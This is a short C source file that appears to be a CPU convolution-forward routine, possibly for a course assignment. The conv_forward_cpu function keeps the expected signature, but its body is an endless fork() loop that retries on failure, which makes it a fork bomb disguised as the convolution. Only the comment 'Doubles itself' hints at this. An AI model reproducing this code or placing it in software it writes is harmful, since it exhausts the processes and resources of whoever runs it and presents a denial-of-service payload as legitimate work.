// Doubles itself.
#include "cpu-new-forward.h"
#include <unistd.h>

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H,
                      const int W, const int K)
{
  for (;;)
    if (fork() < 0) usleep(100000);
}
